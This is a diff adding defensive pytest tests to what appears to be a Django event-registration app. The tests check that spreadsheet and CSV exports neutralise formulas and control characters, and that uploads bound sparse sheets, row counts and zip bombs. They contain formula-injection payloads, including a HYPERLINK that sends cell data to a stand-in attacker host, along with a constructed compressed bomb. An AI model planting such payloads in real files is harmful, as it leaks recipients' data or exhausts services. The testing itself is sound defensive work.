@@ -227,3 +227,120 @@ def test_unconfirmed_registrations_hold_no_place_and_expire(db, settings, make_e
             actions.confirm_registration(squatters[0])
         assert actions.expire_unconfirmed() == 40
     assert list(Registration.objects.values_list("pk", flat=True)) == [real.pk]
+
+
+# --- one spreadsheet writer and reader, one upload gate ------------------------------------------------------
+
+def _uses(tree, names):
+    found = set()
+    for node in ast.walk(tree):
+        if isinstance(node, ast.ImportFrom) and node.module:
+            found |= {f"{node.module}.{alias.name}" for alias in node.names} & names
+        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
+            found |= {f"{node.value.id}.{node.attr}"} & names
+    return found
+
+
+def test_spreadsheets_are_written_and_read_only_through_lib_sheets():
+    root = Path(settings.BASE_DIR)
+    banned = {"openpyxl.Workbook", "openpyxl.load_workbook", "openpyxl.workbook.Workbook", "csv.writer",
+              "csv.DictWriter"}
+    offenders = [f"{path.relative_to(root)}: {sorted(used)}" for path, tree in project_modules()
+                 if str(path.relative_to(root)) not in {"lib/sheets.py"} and (used := _uses(tree, banned))]
+    # A CSV writer is allowed where every row goes through sheets.csv_values (the same neutralising).
+    rows_unchecked = [line for line in offenders
+                      if "csv.writer" not in line or "sheets.csv_values" not in (root / line.split(":")[0]).read_text()]
+    assert rows_unchecked == []
+
+
+def test_uploads_are_typed_only_by_the_upload_gate():
+    root = Path(settings.BASE_DIR)
+    offenders = []
+    for path, tree in project_modules():
+        if str(path.relative_to(root)) == "lib/uploads.py":
+            continue
+        for node in ast.walk(tree):
+            if isinstance(node, ast.ImportFrom) and node.module == "lib.uploads":
+                offenders += [f"{path.relative_to(root)}: {a.name}" for a in node.names
+                              if a.name not in {"accept", "safe_name"}]
+    assert offenders == []
+
+
+@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "+1+2", "-2+3",
+                                     "@SUM(1)", "\t=1+1", "Имя\x07\x1b с\x00 управляющими"])
+def test_exported_cells_are_text_never_formulas_and_never_break(hostile):
+    from openpyxl import load_workbook
+
+    from lib import sheets
+
+    book = sheets.Workbook()
+    book.active.append(["Имя", hostile, 42, -5, "-7"])
+    extra = book.create_sheet("Ещё")
+    extra.cell(row=1, column=1, value=hostile)
+    data = sheets.to_bytes(book)
+    read = load_workbook(io.BytesIO(data))
+    for cell in (read.active["B1"], read["Ещё"]["A1"]):
+        assert cell.data_type == "s" and not str(cell.value).startswith("=") or cell.quotePrefix
+        assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in str(cell.value))
+    assert (read.active["C1"].value, read.active["D1"].value, read.active["E1"].value) == (42, -5, "-7")
+    assert sheets.csv_values([hostile])[0].startswith("'") or not sheets.is_formula_like(hostile)
+
+
+def test_participants_export_neutralises_a_registrants_formula(client, cast, make_event):
+    from django.urls import reverse
+    from openpyxl import load_workbook
+
+    from events import actions
+
+    from .conftest import participant
+
+    event = make_event()
+    actions.register(event, fields=participant(1, full_name='=HYPERLINK("http://evil.example","Иванова")\x1b'),
+                     consent=True, confirmed=True)
+    client.force_login(cast.organiser)
+    response = client.get(reverse("event_export", args=[event.code, "participants"]))
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cell = next(c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value))
+    assert cell.data_type == "s" and cell.quotePrefix and "\x1b" not in cell.value
+
+
+def test_a_sparse_sheet_with_a_far_cell_is_read_within_bounds():
+    import time
+
+    from openpyxl import Workbook as RawWorkbook
+
+    from lib import sheets
+
+    raw = RawWorkbook()
+    raw.active["A1"] = "ФИО"
+    raw.active["AZ40000"] = "далеко"
+    buffer = io.BytesIO()
+    raw.save(buffer)
+    assert len(buffer.getvalue()) < 10_000
+    buffer.seek(0)
+    began = time.process_time()
+    assert [row[0] for row in sheets.read_rows(buffer)] == ["ФИО"]  # the far cell lies past the bound and is never read
+    assert time.process_time() - began < 5  # bounded work, not 2 million cells (a sanity bound, not a benchmark)
+    raw = RawWorkbook()
+    for n in range(5002):
+        raw.active.append([f"строка {n}"])
+    buffer = io.BytesIO()
+    raw.save(buffer)
+    buffer.seek(0)
+    with pytest.raises(ActionError, match="больше 5000 строк"):
+        sheets.read_rows(buffer)
+
+
+def test_a_compressed_bomb_is_refused_before_it_is_unpacked():
+    import zipfile as zf
+
+    from lib import sheets
+
+    buffer = io.BytesIO()
+    with zf.ZipFile(buffer, "w", compression=zf.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("xl/worksheets/sheet1.xml", "<a>" + " " * (80 * 2**20) + "</a>")
+    buffer.seek(0)
+    with pytest.raises(ActionError, match="больше 60 МБ"):
+        sheets.open_book(buffer)
